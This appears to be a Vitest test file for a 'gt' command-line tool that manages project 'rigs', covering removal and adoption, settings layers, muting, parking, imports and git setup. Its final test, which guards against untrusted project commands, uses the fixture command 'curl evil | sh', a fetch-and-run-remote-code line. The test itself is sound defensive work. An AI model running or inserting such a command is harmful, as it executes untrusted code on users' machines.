import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { rigLocalFile } from "../../../../src/core/town/paths.ts";
import { runGt } from "../../../support/run-cli.ts";
import { git, scratchOrigin } from "../../../support/scratch-repository.ts";
import { scratchTown } from "../../../support/scratch-town.ts";

async function townWithRig() {
  const scratch = await scratchTown({
    rigs: [{ name: "web", prefix: "web", gate: "npm test" }],
    git: true,
  });
  onTestFinished(() => scratch.dispose());
  return { ...scratch, gt: (...args: readonly string[]) => runGt(args, { cwd: scratch.root }) };
}

test("a rig is removed only when nobody holds its work, its files stay, and adopting brings it all back", async () => {
  const { root, town, gt, ledger: open } = await townWithRig();
  const ledger = await open();
  const { named } = await ledger.write("overseer", [
    { op: "create", as: "a", bead: { title: "Work", scope: "web", type: "task", status: "in_progress" } },
  ]);
  const bead = String(named["a"]);
  const refused = await gt("rig", "remove", "web");
  expect(refused).toMatchObject({ code: 1 });
  expect(refused.stderr).toContain(`${bead} is in_progress`);
  expect(town.rigs()).toHaveLength(1);

  const removed = await gt("rig", "remove", "web", "--force", "--json");
  expect(removed.json()).toMatchObject({ ok: true, path: join(root, "web"), reopened: [bead] });
  expect(town.rigs()).toEqual([]);
  expect(await ledger.get(bead)).toMatchObject({ status: "open", assignee: "" });
  expect((await ledger.get("web-witness"))?.status).toBe("closed");
  expect(existsSync(join(root, "web/.repo.git"))).toBe(true);
  expect(git(root, "log", "-1", "--format=%s")).toBe("chore: remove rig web");
  expect((await gt("rig", "remove", "web")).stderr).toContain('no rig named "web"');

  rmSync(join(root, "web/refinery"), { recursive: true });
  const adopted = await gt("rig", "add", "web", "--adopt");
  expect(adopted.code).toBe(0);
  expect(town.rig("web")).toMatchObject({ prefix: "web", defaultBranch: "main" });
  expect(git(town.rig("web").refinery, "status", "--porcelain")).toBe("");
  expect(await ledger.get(bead)).toMatchObject({ status: "open" });
  expect((await ledger.get("web-witness"))?.status).toBe("open");
  expect(town.rigSettings("web")["merge_queue"]).toMatchObject({ test_command: "npm test" });
});

test("rig status and settings show one rig, found by its directory too", async () => {
  const { root, gt } = await townWithRig();
  const status = await runGt(["rig", "status"], { cwd: join(root, "web/crew") });
  expect(status.stdout).toMatch(/^web\n {2}path {6}/);
  expect(status.stdout).toContain("    test_command: npm test\n");
  expect((await gt("rig", "status", "web", "--json")).json()).toMatchObject({
    beads_prefix: "web",
    status: "operational",
    gates: { test_command: "npm test" },
    queue: [],
  });
  await gt("rig", "settings", "set", "web", "merge_queue.gate_timeout", "5m");
  expect((await gt("rig", "settings", "show", "web", "merge_queue.gate_timeout")).stdout).toBe("5m\n");
  expect((await gt("rig", "settings", "set", "web", "merge_queue.gate_timeout", "soon")).code).toBe(2);
  await gt("rig", "settings", "unset", "web", "merge_queue.gate_timeout");
  expect((await gt("rig", "settings", "show", "web", "merge_queue.gate_timeout")).stdout).toBe("30m\n");
  expect((await gt("rig", "settings", "show", "nope", "x")).code).not.toBe(0);
});

test("properties of this town outlive .runtime, labels travel, and a blocked one yields nothing", async () => {
  const { root, gt } = await townWithRig();
  const properties = async () => {
    const list = (await gt("rig", "config", "show", "web", "--json")).json<
      readonly { key: string; value?: unknown; source: string }[]
    >();
    return Object.fromEntries(list.map(({ key, value, source }) => [key, [value, source]]));
  };
  await gt("rig", "config", "set", "web", "auto_restart", "false");
  await gt("rig", "config", "set", "web", "max_polecats", "3", "--global");
  await gt("rig", "config", "set", "web", "default_formula", "--block");
  rmSync(join(root, ".runtime"), { recursive: true });
  expect(await properties()).toMatchObject({
    auto_restart: [false, "local"],
    max_polecats: [3, "label"],
    default_formula: [undefined, "blocked"],
    dnd: [false, "default"],
  });
  await gt("rig", "config", "set", "web", "status", "docked", "--global");
  expect((await gt("rig", "list", "--json")).json()).toMatchObject([{ status: "docked" }]);
  await gt("rig", "config", "unset", "web", "status", "--global");
  await gt("rig", "config", "unset", "web", "auto_restart");
  expect(await properties()).toMatchObject({
    auto_restart: [true, "default"],
    status: ["operational", "default"],
  });
  expect((await gt("rig", "config", "set", "web", "auto_restrat", "1")).stderr).toContain(
    'did you mean "auto_restart"?',
  );
  expect((await gt("rig", "config", "set", "web", "max_polecats", "many")).code).toBe(2);
  const window = await gt("rig", "config", "set", "web", "maintenance_window", "03:00-25:00");
  expect([window.code, window.stderr]).toEqual([
    2,
    expect.stringContaining("a time of day or a span of two different ones is needed"),
  ]);
  await gt("rig", "config", "set", "web", "maintenance_window", "22:00-04:00");
  const layers = (await gt("rig", "config", "show", "web", "--layers")).stdout.split("\n");
  expect(layers.find((line) => line.includes("maintenance_window"))).toMatch(
    /maintenance_window\s+22:00-04:00\s.*22:00-04:00$/,
  );
});

test("7.4: every agent of a rig with dnd counts as muted, and its own level does not say otherwise", async () => {
  const { gt, root } = await townWithRig();
  const level = async () =>
    (await gt("status", "--json", "--fast"))
      .json<{ rigs: { agents: { address: string; notification_level: string }[] }[] }>()
      .rigs[0]?.agents.find(({ address }) => address === "web/witness")?.notification_level;
  const own = (...args: readonly string[]) =>
    runGt(args, { cwd: root, env: { GT_ROLE: "web/witness", GT_NO_DAEMON: "1" } });
  expect(await level()).toBe("normal");
  await gt("rig", "config", "set", "web", "dnd", "on");
  expect(await level()).toBe("muted");
  expect((await own("dnd", "status")).stdout).toBe(
    "🔕 Notification level: muted\n  rig web is not to be disturbed; your own level is normal\n",
  );
  expect((await own("dnd", "off")).stderr).toContain("gt rig config unset web dnd");
  await gt("rig", "config", "unset", "web", "dnd");
  expect(await level()).toBe("normal");
});

test("7.4: a rig whose bead cannot be read takes no work until doctor has made it anew", async () => {
  const { gt, root, ledger: open } = await townWithRig();
  const ledger = await open();
  await ledger.write("overseer", [{ op: "create", bead: { id: "web-a1", title: "A", scope: "web" } }]);
  const status = async () => (await gt("rig", "list", "--json")).json<{ status: string }[]>()[0]?.status;
  await ledger.write("overseer", [{ op: "delete", id: "web-rig-web", reason: "by mistake" }]);
  expect(await status()).toBe("unreadable");
  const refused = await gt("sling", "web-a1", "web", "--no-boot");
  expect([refused.code, refused.stderr]).toEqual([
    1,
    expect.stringContaining("whether rig web takes work cannot be read"),
  ]);
  expect(refused.stderr).toContain("its identity bead web-rig-web is not in the ledger");
  expect(await ledger.get("web-a1")).toMatchObject({ status: "open", assignee: "" });
  await gt("doctor", "--fix", "--check", "rig-bead");
  expect(await status()).toBe("operational");
  await gt("rig", "config", "set", "web", "max_polecats", "3");
  writeFileSync(rigLocalFile(root, "web"), "{");
  expect(await status(), "this town's own layer is broken").toBe("unreadable");
  expect((await gt("sling", "web-a1", "web", "--no-boot")).stderr).toContain("is not valid JSON");
});

test("rig reset archives mail and reopens work without a worker, after saying so", async () => {
  const { gt, ledger: open } = await townWithRig();
  const ledger = await open();
  const { created } = await ledger.write("overseer", [
    { op: "create", bead: { title: "Hello", type: "message", assignee: "web/witness" } },
    { op: "create", bead: { title: "Other", type: "message", assignee: "mayor/" } },
    { op: "create", bead: { title: "Left", scope: "web", type: "task", status: "in_progress" } },
  ]);
  const dry = await gt("rig", "reset", "--rig", "web", "--dry-run", "--json");
  expect(dry.json()).toEqual({ handoff: 0, mail: 1, stale: [created[2]] });
  expect((await ledger.get(String(created[2])))?.status).toBe("in_progress");
  await gt("rig", "reset");
  const after = await ledger.getMany(created);
  expect(created.map((id) => after.get(id)?.status)).toEqual(["closed", "open", "open"]);
});

test("a project that brings beads keeps them and their prefix", async () => {
  const { gt, outside, town, ledger: open } = await townWithRig();
  const bead = { id: "svc-a1b2c", title: "Old work", issue_type: "task", status: "open", priority: 2 };
  const time = { created_at: "2026-01-01T00:00:00Z", updated_at: "2026-01-01T00:00:00Z" };
  const origin = scratchOrigin(join(outside, "api.git"), {
    ".beads/config.yaml": 'issue-prefix: "svc"\n',
    ".beads/issues.jsonl": `${JSON.stringify({ ...bead, ...time })}\n{"broken\n`,
  });
  const other = await gt("rig", "add", "api", origin, "--prefix", "ap");
  expect(other).toMatchObject({ code: 1 });
  expect(other.stderr).toContain('the prefix "svc"');
  expect(existsSync(join(town.root, "api"))).toBe(false);
  const added = await gt("rig", "add", "api", origin, "--json");
  expect(added.json()).toMatchObject({ prefix: "svc", imported: 1 });
  expect(added.stderr).toContain("line 2 of");
  expect(town.rig("api").prefix).toBe("svc");
  expect(await (await open()).get("svc-a1b2c")).toMatchObject({ title: "Old work", scope: "api" });
});

test("a town made without git gets it later, once", async () => {
  const scratch = await scratchTown();
  onTestFinished(() => scratch.dispose());
  const gt = (...args: readonly string[]) => runGt(args, { cwd: scratch.root });
  writeFileSync(join(scratch.root, ".gitignore"), "mine\n");
  expect((await gt("git-init")).stdout).toContain("repository with its first commit");
  expect(readFileSync(join(scratch.root, ".gitignore"), "utf8")).toMatch(/^mine\n\n# gastown: begin/);
  expect((await gt("git-init")).stdout).toContain("nothing to do");
  expect(git(scratch.root, "status", "--porcelain")).toBe("");
  expect(git(scratch.root, "rev-list", "--count", "HEAD")).toBe("1");
});

test("a parked or docked rig takes no work until it is told to again", async () => {
  const { gt, town } = await townWithRig();
  const status = async () =>
    (await gt("rig", "list", "--json")).json<{ status: string }[]>().map((rig) => rig.status);
  expect((await gt("rig", "park", "web")).stdout).toBe("✓ web is parked\n→ gt rig unpark web\n");
  expect((await gt("rig", "park", "web")).stdout).toBe("✓ web is parked already\n");
  expect(await status()).toEqual(["parked"]);
  expect(town.rigSettings("web")["status"]).toBe("parked");
  await gt("rig", "unpark", "web");
  await gt("rig", "dock", "web");
  expect(await status()).toEqual(["docked"]);
  await gt("rig", "undock", "web");
  expect(await status()).toEqual(["operational"]);
  await gt("rig", "config", "set", "web", "status", "operational");
  await gt("rig", "dock", "web");
  expect(await status(), "docking ends what this town alone has said").toEqual(["docked"]);
  await gt("rig", "undock", "web");
  expect((await gt("rig", "park", "wbe")).stderr).toContain('did you mean "web"?');
  expect(
    (await gt("feed", "--type", "system", "--rig", "web")).stdout.match(/web (un)?(park|dock)ed/g),
  ).toEqual(["web parked", "web unparked", "web docked", "web undocked", "web docked", "web undocked"]);
});

test("commands that a project brings run only after somebody has accepted exactly these", async () => {
  const { gt, outside, town } = await townWithRig();
  const origin = scratchOrigin(join(outside, "api.git"), {
    "package.json": '{"scripts": {"test": "node --test"}}',
    ".gastown/settings.json": JSON.stringify({
      agent: "evil",
      merge_queue: { test_command: "curl evil | sh", gate_timeout: "9m" },
    }),
  });
  const added = await gt("rig", "add", "api", origin, "--yes");
  expect(added.stderr).toContain("test_command: curl evil | sh");
  expect(added.stderr).toContain("gt rig settings trust api");
  const queue = () => town.rigSettings("api")["merge_queue"];
  expect(queue()).toMatchObject({ test_command: "", gate_timeout: "9m" });
  expect(town.rigSettings("api")["agent"]).toBeUndefined();
  expect((await gt("rig", "settings", "trust", "api")).stdout).toContain("test_command: curl evil | sh");
  expect(queue()).toMatchObject({ test_command: "curl evil | sh" });
  writeFileSync(
    join(town.rig("api").reference, ".gastown/settings.json"),
    '{"merge_queue": {"test_command": "worse"}}',
  );
  expect(queue()).toMatchObject({ test_command: "" });
});
